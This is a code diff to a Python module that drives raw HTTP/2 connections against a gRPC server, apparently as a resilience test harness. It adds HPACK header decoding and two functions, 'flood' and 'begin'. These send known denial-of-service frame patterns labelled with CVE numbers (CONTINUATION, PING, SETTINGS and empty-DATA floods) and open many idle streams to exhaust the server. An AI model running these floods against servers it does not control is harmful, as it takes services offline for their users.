@@ -6,27 +6,29 @@ import struct
 import time
 from dataclasses import dataclass
 
+import hpack
+
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
+_CONTINUATION = 9
 _END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4
 
 
 @dataclass(frozen=True, slots=True)
 class Answer:
-    """What came back on the stream before it ended, undecoded, and after how many seconds."""
+    """What came back on the stream before it ended, and after how many seconds."""
 
-    headers: bytes
+    headers: dict[bytes, bytes]
     data: bytes
     ended: bool
+    """Whether it ended in good order and was not reset."""
     seconds: float
 
     @property
     def status(self) -> int | None:
-        """The `grpc-status`, which grpcio writes as a literal the first time on a connection."""
-        _, found, rest = self.headers.partition(b"grpc-status")
-        if not found:
-            return None
-        return int(rest[1 : 1 + rest[0]])
+        """The `grpc-status`; None if the stream was reset."""
+        value = self.headers.get(b"grpc-status")
+        return None if value is None else int(value)
 
 
 def call(
@@ -67,6 +69,33 @@ def reset_rapidly(address: str, path: bytes, *, times: int) -> int:
     return times
 
 
+def flood(address: str, path: bytes, *, times: int) -> None:
+    """Send what costs a client nothing, on a connection for each sort, until it has enough."""
+    begun = _frame(_HEADERS, 0, 1, _block(address, path, ()))
+    open_call = _frame(_HEADERS, _END_HEADERS, 1, _block(address, path, ()))
+    large = _frame(_CONTINUATION, 0, 1, _literal(b"x-large", b"a" * 8000))
+    for first, repeated in (
+        (begun, _frame(_CONTINUATION, 0, 1, b"")),  # CVE-2024-27316 and its like
+        (begun, large),
+        (b"", _frame(_PING, 0, 0, bytes(8))),  # CVE-2019-9512
+        (b"", _frame(_SETTINGS, 0, 0, b"")),  # CVE-2019-9515
+        (open_call, _frame(_DATA, 0, 1, b"")),  # CVE-2019-9518
+        (b"", bytes(range(256))),
+    ):
+        with _connect(address, 1.0) as connection, contextlib.suppress(OSError):
+            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + first + repeated * times)
+
+
+def begin(address: str, path: bytes, *, times: int) -> socket.socket:
+    """Begin calls and send no message; they are open as long as the connection."""
+    connection = _connect(address, 10.0)
+    block = _block(address, path, ())
+    streams = (_frame(_HEADERS, _END_HEADERS, 2 * number + 1, block) for number in range(times))
+    with contextlib.suppress(OSError):  # it may have had enough
+        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + b"".join(streams))
+    return connection
+
+
 def _connect(address: str, patience: float) -> socket.socket:
     host, _, port = address.rpartition(":")
     return socket.create_connection((host, int(port)), timeout=patience)
@@ -85,7 +114,8 @@ def _block(address: str, path: bytes, headers: tuple[tuple[bytes, bytes], ...]) 
 
 
 def _read(connection: socket.socket, started: float, patience: float) -> Answer:
-    received, blocks, data = b"", b"", b""
+    headers: dict[bytes, bytes] = {}
+    received, data, decoder = b"", b"", hpack.Decoder()
     while time.monotonic() < started + patience:
         try:
             chunk = connection.recv(65536)
@@ -107,12 +137,12 @@ def _read(connection: socket.socket, started: float, patience: float) -> Answer:
                 _acknowledge(connection, _PING, payload)
             if stream != 1:
                 continue
-            blocks += payload if kind == _HEADERS else b""
+            headers.update(decoder.decode(payload, raw=True) if kind == _HEADERS else ())
             data += payload if kind == _DATA else b""
             is_reset = kind not in {_DATA, _HEADERS, _WINDOW_UPDATE}
             if is_reset or (kind in {_DATA, _HEADERS} and flags & _END_STREAM):
-                return Answer(blocks, data, not is_reset, time.monotonic() - started)
-    return Answer(blocks, data, False, time.monotonic() - started)
+                return Answer(headers, data, not is_reset, time.monotonic() - started)
+    return Answer(headers, data, False, time.monotonic() - started)
 
 
 def _acknowledge(connection: socket.socket, kind: int, payload: bytes) -> None:
